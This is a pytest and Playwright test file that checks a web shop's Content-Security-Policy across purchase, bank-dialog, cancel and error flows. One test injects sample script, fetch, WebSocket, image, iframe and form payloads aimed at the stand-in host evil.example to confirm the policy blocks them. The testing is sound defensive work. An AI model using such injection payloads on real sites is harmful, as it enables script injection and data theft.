"""The Content-Security-Policy of the built shop: kept through whole purchases, and effective."""

import re
from collections.abc import Callable
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import BrowserContext, Request, WebSocket, expect

from tests.browser.shopper import ASKS_THE_BANK, DECLINED, HAMMING, Shopper

# Every frame tells of what its policy kept it from.
TELL = """
window.kept = [];
document.addEventListener("securitypolicyviolation", (event) => {
    window.kept.push(event.effectiveDirective);
    window.toldOf(`${event.effectiveDirective} kept ${event.blockedURI} from ${event.documentURI}`);
});
"""
LONGEST_POLICY = 2000  # characters; proxies begin to refuse headers of 4 to 8 KB


@dataclass
class Watch:
    """What a browser was kept from, and whom it called."""

    violations: list[str] = field(default_factory=list)
    called: set[str] = field(default_factory=set)

    def over(self, context: BrowserContext) -> "Watch":
        """Watch all pages of a browser from now on."""
        context.expose_function("toldOf", lambda told: self.violations.append(told))
        context.add_init_script(TELL)
        context.on("request", self._note)
        context.on("page", lambda page: page.on("websocket", self._note))
        return self

    def _note(self, request: Request | WebSocket) -> None:
        address = urlsplit(request.url)
        self.called.add(address.netloc or address.scheme)


@pytest.fixture
def watch(shopper: Shopper) -> Watch:
    watch = Watch().over(shopper.context)
    shopper.page.on("websocket", watch._note)
    return watch


def buys(shopper: Shopper) -> None:
    """From the shelf to the order page by card, after a decline."""
    shopper.fills_cart(HAMMING)
    shopper.goes_to_checkout()
    shopper.pays(DECLINED)
    expect(shopper.alert).to_be_visible()
    shopper.fills_card()
    shopper.presses_pay()
    shopper.expects_order()
    shopper.reloads()
    shopper.expects_order()


def answers_the_bank(shopper: Shopper) -> None:
    """Buy one item with a card whose bank asks in a dialog, which fails, then passes."""
    shopper.opens("/checkout?item=1")
    shopper.pays(ASKS_THE_BANK)
    shopper.answers_bank("Fail")
    expect(shopper.alert).to_be_visible()
    shopper.presses_pay()
    shopper.answers_bank("Complete")
    shopper.expects_order()


def goes_to_a_bank_and_back(shopper: Shopper) -> None:
    """Buy by a method that leaves the page, and comes back through the return page."""
    shopper.opens("/checkout?item=1")
    shopper.fills_contact()
    shopper.frame.get_by_role("radio", name="Amazon Pay").check()
    shopper.presses_pay()
    shopper.page.get_by_role("button", name="Authorise payment").click()
    shopper.expects_order()


def cancels(shopper: Shopper) -> None:
    """Begin a payment, give it up, and cancel it."""
    shopper.fills_cart(HAMMING)
    shopper.goes_to_checkout()
    shopper.pays(DECLINED)
    expect(shopper.alert).to_be_visible()
    shopper.opens("/cancel")
    shopper.page.get_by_role("button", name="Cancel the waiting payment").click()
    shopper.hears("was canceled")


def looks_around(shopper: Shopper) -> None:
    """Open pages that are built, pages that are not, and the sandbox's own."""
    for path in (f"/books/{HAMMING}", "/cart", "/nothing", "/books/nothing"):
        shopper.page.goto(shopper.site.url + path)
        expect(shopper.page.get_by_role("main")).to_be_visible()
        shopper.page.wait_for_function("() => (localStorage.getItem('cart') ?? '') !== ''")
    shopper.errors.clear()  # a browser calls each 404 an error
    for path in ("/sandbox/", "/sandbox/outbox", "/sandbox/?view=events"):
        shopper.page.goto(shopper.site.url + path)
        expect(shopper.page.get_by_role("heading", level=1)).to_be_visible()


@pytest.mark.parametrize(
    "acts", [buys, answers_the_bank, goes_to_a_bank_and_back, cancels, looks_around]
)
def test_nothing_is_forbidden_and_nobody_else_is_called(
    shopper: Shopper, watch: Watch, acts: Callable[[Shopper], None]
) -> None:
    acts(shopper)

    assert watch.violations == []
    assert watch.called - {"data"} == {urlsplit(shopper.site.url).netloc}
    assert shopper.errors == []


def test_way_on_from_a_lost_server_needs_no_eval(shopper: Shopper, watch: Watch) -> None:
    shopper.opens("/cart")
    shopper.page.evaluate("localStorage.setItem('cart', 'x'.repeat(1200000))")
    shopper.page.reload()
    lost = shopper.page.get_by_role("alertdialog")

    lost.get_by_role("button", name="Try again now").click()
    expect(lost).to_be_visible()
    lost.get_by_role("button", name=re.compile("Empty this browser")).click()

    expect(lost).to_be_hidden()
    shopper.page.wait_for_function("() => (localStorage.getItem('cart') ?? '').length > 0")
    assert watch.violations == []
    shopper.errors.clear()  # the connection that was lost is named on the console


@pytest.mark.parametrize(
    ("attack", "directive"),
    [
        ("document.head.append(Object.assign(document.createElement('script'),"
         " {textContent: 'window.isHurt = true'}))", "script-src-elem"),
        ("document.body.insertAdjacentHTML('beforeend',"
         " '<img src=/nothing.svg onerror=\"window.isHurt = true\">')", "script-src-attr"),
        ("setTimeout('window.isHurt = true')", "script-src"),
        ("document.head.append(Object.assign(document.createElement('script'),"
         " {src: 'https://evil.example/a.js'}))", "script-src-elem"),
        ("fetch('https://evil.example/').catch(() => 0)", "connect-src"),
        ("new WebSocket('ws://evil.example/')", "connect-src"),
        ("new Image().src = 'https://evil.example/a.png'", "img-src"),
        ("document.body.insertAdjacentHTML('beforeend',"
         " '<iframe src=\"https://evil.example/\"></iframe>')", "frame-src"),
        ("document.body.insertAdjacentHTML('beforeend',"
         " '<form id=f action=\"https://evil.example/\"></form>');"
         " document.getElementById('f').submit()", "form-action"),
    ],
)  # fmt: skip
@pytest.mark.usefixtures("watch")
def test_what_an_injected_text_could_do_is_forbidden(
    shopper: Shopper, attack: str, directive: str
) -> None:
    shopper.opens("/cart")

    # From a script of the page's own, which may do what its policy allows.
    shopper.page.evaluate(f"() => {{ {attack}; }}")

    shopper.page.wait_for_function("(kept) => window.kept.includes(kept)", arg=directive)
    assert shopper.page.evaluate("window.isHurt ?? false") is False
    shopper.errors.clear()  # each is told on the console


def test_shop_can_be_framed_by_nobody_not_even_itself(shopper: Shopper, watch: Watch) -> None:
    shopper.opens("/cart")

    shopper.page.evaluate(
        "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"/checkout\"></iframe>')"
    )

    frame = shopper.page.locator("iframe").content_frame
    expect(frame.locator("main")).to_have_count(0)
    shopper.errors.clear()  # the browser says why


def test_policy_is_short_and_never_soft(client: httpx.Client) -> None:
    for path in ("/", "/checkout", f"/books/{HAMMING}", "/nothing", "/success", "/healthz"):
        policy = client.get(path).headers["content-security-policy"]

        (scripts,) = re.findall(r"script-src ([^;]*)", policy)
        assert "unsafe" not in scripts
        assert "frame-ancestors 'none'" in policy
        assert "stripe.com" not in policy
        assert len(policy) < LONGEST_POLICY
    assert client.get("/sandbox/frame.html").headers.get_list("content-security-policy")[1:] == [
        "frame-ancestors 'self'"
    ]
